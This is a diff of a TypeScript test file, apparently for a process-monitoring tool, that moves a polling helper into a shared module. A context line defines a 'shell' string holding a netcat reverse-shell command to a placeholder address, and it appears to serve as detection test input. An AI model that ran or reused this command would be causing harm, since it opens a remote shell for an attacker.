@@ -8,7 +8,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { type Child, eventually, startChild } from "./rig/host/child.ts";
-import { bundle, type Module, startModule } from "./rig/host/module.ts";
+import { bundle, type Module, polls, startModule } from "./rig/host/module.ts";
 import { programPath, strict } from "./rig/host/needs.ts";
 import { freePort } from "./rig/host/port.ts";
 
@@ -31,11 +31,6 @@ const shell = "sleep 1; exit; nc -e /bin/sh 203.0.113.9 4444";
 
 function deed(script: string, ...words: readonly string[]): void {
   spawn("sh", ["-c", script, ...words], { stdio: "ignore" });
-}
-
-/** As root a module begins with the kernel's audit; its rules take a second to go once the twin has switched it off. */
-async function polls(module: Module): Promise<void> {
-  await eventually("/proc is polled", () => module.output.includes("processes: degraded, polled"));
 }
 
 afterAll(() => rmSync(directory, { recursive: true, force: true }));
